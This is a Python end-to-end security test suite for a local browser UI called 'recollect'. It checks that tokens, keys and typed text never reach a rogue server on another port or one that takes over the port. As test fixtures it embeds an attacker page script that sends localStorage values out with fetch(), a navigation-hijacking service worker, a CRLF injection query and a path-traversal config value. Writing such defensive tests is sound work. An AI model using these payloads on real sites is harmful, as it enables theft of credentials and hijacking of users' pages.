"""How a browser is let in, and what a server on another port, or on ours after us, gets: nothing of use."""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, expect
from tests.conftest import World
from tests.e2e.ui.conftest import Serve, Served, ids_of

Visit = Callable[..., Page]

PRICES = "Prices are integers in cents"
EVIL = '<body data-csrf="x"><main id="main"><h1 id="evil">Evil</h1></main></body>'


@contextmanager
def listening(
    port: int = 0, said: Mapping[str, tuple[str, str]] = {"": ("text/html", EVIL)}, cached: str = "no-store"
) -> Iterator[tuple[int, list[str]]]:
    """A server of somebody else, which says the same to paths that end alike; its port, and all that it was sent."""
    sent: list[str] = []

    class Answers(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            length = int(self.headers["Content-Length"] or 0)
            sent.append(f"{self.requestline}\n{self.headers}\n{self.rfile.read(length).decode()}")
            kind, text = next(said[ending] for ending in said if self.path.endswith(ending))
            self.send_response(200)
            self.send_header("Content-Type", kind)
            self.send_header("Cache-Control", cached)
            self.end_headers()
            self.wfile.write(text.encode())

        do_POST = do_GET

        def log_message(self, format: str, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", port), Answers)
    thread = threading.Thread(target=server.serve_forever, args=(0.01,))
    thread.start()
    try:
        yield server.server_port, sent
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def kept_by(page: Page) -> dict[str, str]:
    """The key and the seal that the browser keeps for this origin."""
    return json.loads(page.evaluate("localStorage.getItem('recollect')"))


def test_hand_over_leads_a_browser_to_the_name_and_lets_it_in(world: World, visit: Visit, serve: Serve) -> None:
    served = serve(world)
    page = visit(world, served=served, url=Path(served.file).as_uri())
    expect(page.get_by_role("heading", name="Today")).to_be_visible()
    assert page.url == served.base + "/"
    assert (urlsplit(page.url).hostname or "").endswith(".localhost")
    assert not Path(served.file).exists()


def test_browser_that_does_not_know_the_name_is_let_in_by_the_number(
    world: World, serve: Serve, unknowing: Browser
) -> None:
    served = serve(world)
    page = unknowing.new_page()
    page.goto(Path(served.file).as_uri())
    expect(page.get_by_role("heading", name="Today")).to_be_visible()
    assert page.url == f"http://127.0.0.1:{urlsplit(served.url).port}/"
    assert page.context.cookies() == []
    page.get_by_role("link", name="Memories").click()
    expect(page.get_by_role("heading", name="Memories")).to_be_visible()
    page.context.close()


def test_token_lets_one_browser_in_and_leaves_the_address(world: World, visit: Visit, serve: Serve) -> None:
    served = serve(world)
    page = visit(world, served=served, refused=True)
    expect(page.get_by_role("heading", name="Today")).to_be_visible()
    assert page.url == served.base + "/"
    stranger = page.context.browser.new_context().new_page()  # pyright: ignore[reportOptionalMemberAccess]
    stranger.goto(served.url)
    expect(stranger.get_by_role("alert")).to_contain_text("Run recollect ui again")
    stranger.context.close()
    page.goto(served.url)  # the browser that was let in may use it again
    expect(page.get_by_role("heading", name="Today")).to_be_visible()


def test_page_that_was_closed_is_opened_again_by_its_address(world: World, visit: Visit, serve: Serve) -> None:
    served = serve(world)
    page = visit(world, served=served)
    expect(page.get_by_role("heading", name="Today")).to_be_visible()
    other = page.context.new_page()
    page.close()
    other.goto(served.base)
    expect(other.get_by_role("heading", name="Today")).to_be_visible()


def test_command_again_opens_the_page_of_the_running_server(world: World, visit: Visit, serve: Serve) -> None:
    first, again = serve(world), serve(world)
    assert again.process.wait() == 0
    assert again.base == first.base
    assert again.token != first.token
    for served in (again, first):  # each in a browser of its own
        page = visit(world, served=served)
        expect(page.get_by_role("heading", name="Today")).to_be_visible()


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "name"])
def test_server_on_another_port_receives_no_key(world: World, visit: Visit, serve: Serve, host: str) -> None:
    served = serve(world)
    page = visit(world, served=served)
    expect(page.get_by_role("heading", name="Today")).to_be_visible()
    secrets = kept_by(page).values()
    name = urlsplit(served.url).hostname if host == "name" else host
    with listening() as (port, sent):
        page.evaluate(f"location.href = 'http://{name}:{port}/'")
        expect(page.locator("#evil")).to_be_visible()
        page.reload()
        expect(page.locator("#evil")).to_be_visible()
        assert sent
        assert not any(secret in each or "Cookie:" in each or "Referer:" in each for secret in secrets for each in sent)
        assert page.evaluate("[localStorage.length, document.cookie]") == [0, ""]
    assert page.context.cookies() == []


def test_who_takes_the_port_gets_nothing_that_was_typed_and_is_not_believed(
    lived: World, visit: Visit, serve: Serve
) -> None:
    first = serve(lived)
    page = visit(lived, f"/memory/{ids_of(lived)[PRICES]}/edit", served=first, refused=True)
    page.get_by_label("Title").fill("Prices are cents")
    seal = kept_by(page)["seal"]
    first.process.kill()
    first.process.wait()
    port = urlsplit(first.url).port or 0
    with listening(port) as (_, sent):
        page.get_by_role("button", name="Save").click()
        expect(page.locator("#ended")).to_be_visible()
        expect(page.get_by_role("button", name="Save")).not_to_have_attribute("aria-busy", "true")
        assert sent
        assert not any("cents" in each or seal in each for each in sent)
        assert page.locator("#evil").count() == 0
    again = serve(lived)
    page.context.new_page().goto(again.url)
    page.get_by_role("button", name="Save").click()
    expect(page.locator("#ended")).to_be_visible()  # whoever had the port may still have a page open here
    expect(page.get_by_label("Title")).to_have_value("Prices are cents")
    assert "Prices are cents" not in ids_of(lived)


PLANTED = """<body><h1 id="evil">Evil</h1><script>
onstorage = ({ newValue }) => fetch("http://127.0.0.1:%d/" + encodeURIComponent(newValue), { mode: "no-cors" });
navigator.serviceWorker.register("/sw.js").then(() => navigator.serviceWorker.ready)
  .then(() => Promise.all(["/", "/static/enter.js", "/static/key.js"].map((url) => fetch(url))))
  .then(() => (document.title = "planted"));
</script></body>"""
WORKER = """if (self.registration) {
  addEventListener("fetch", (event) => event.request.mode === "navigate" &&
    event.respondWith(new Response('<h1 id="evil">Evil</h1>', { headers: { "Content-Type": "text/html" } })));
} else document.documentElement.innerHTML = '<h1 id="evil">Evil</h1>';"""


def test_what_somebody_left_in_the_browser_while_they_had_the_port_gets_no_later_key(
    world: World, visit: Visit, serve: Serve
) -> None:
    """A worker and a cached script answer for an address without its server, and a page left open reads its key."""
    first = serve(world)
    page = visit(world, served=first, refused=True)
    first.process.kill()
    first.process.wait()
    with listening() as (other, sent):
        pages = {".js": ("text/javascript", WORKER), "": ("text/html", PLANTED % other)}
        with listening(urlsplit(first.url).port or 0, pages, "max-age=9999"):
            for address in (first.base, first.address):
                left_open = page.context.new_page()
                left_open.goto(address)
                expect(left_open).to_have_title("planted")
        again = serve(world)
        assert again.address == first.address
        page.goto(Path(again.file).as_uri())
        expect(page.get_by_role("heading", name="Today")).to_be_visible()
        assert kept_by(page)
        assert sent == []


def test_address_that_stays_and_one_of_before_lead_to_the_page(world: World, visit: Visit, serve: Serve) -> None:
    first = serve(world)
    first.process.terminate()
    first.process.wait()
    served = serve(world)
    page = visit(world, served=served, refused=True)
    for address in (served.address, first.base + "/"):
        page.goto(f"{address}memories?q=%0d%0ax:1")
        expect(page.get_by_role("heading", name="Memories")).to_be_visible()
        assert page.url == f"{served.base}/memories?q=%0d%0ax:1"


def test_nobody_else_can_take_the_other_kind_of_address_of_our_port(world: World, serve: Serve) -> None:
    served = serve(world)
    with socket.socket(socket.AF_INET6) as other:
        other.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        with pytest.raises(OSError):  # noqa: PT011 (in use; or the machine has none)
            other.bind(("::1", urlsplit(served.url).port))


def test_address_is_the_same_each_day(world: World, serve: Serve) -> None:
    def ended(served: Served) -> str:
        served.process.terminate()
        served.process.wait()
        return served.address

    first = ended(serve(world))
    assert ended(serve(world)) == first
    name, port = urlsplit(first).hostname, urlsplit(first).port
    with listening(port or 0):
        moved = ended(serve(world))
    assert urlsplit(moved).hostname == name
    assert urlsplit(moved).port != port
    assert ended(serve(world)) == moved
    (world.store / ".pages" / "usual").write_text("../evil.example 80\n", encoding="utf-8")
    other = urlsplit(ended(serve(world)))
    assert (other.hostname or "").endswith(".localhost")
    assert other.hostname != name


def test_projects_beside_each_other_have_servers_of_their_own(world: World, serve: Serve) -> None:
    first = serve(world)
    other = world.home / "other"
    other.mkdir()
    second = serve(world, "--project-root", str(other))
    assert urlsplit(second.address).hostname == urlsplit(first.address).hostname
    assert urlsplit(second.url).port != urlsplit(first.url).port
    assert second.process.poll() is None
    done = world.run("ui", "--no-browser")
    assert f"runs already: {first.address}\n" in done.stdout


def test_address_with_the_token_is_printed_to_a_terminal_alone(world: World, serve: Serve) -> None:
    served = serve(world)
    shown = world.on_a_terminal("ui", "--no-browser").decode()
    assert f"{served.base}/#token=" in shown
    done = world.run("ui", "--no-browser")
    assert "#token" not in done.stdout + done.stderr
    file = Path(done.stdout.splitlines()[-1].rpartition(": ")[2])
    assert served.base in file.read_text(encoding="utf-8")
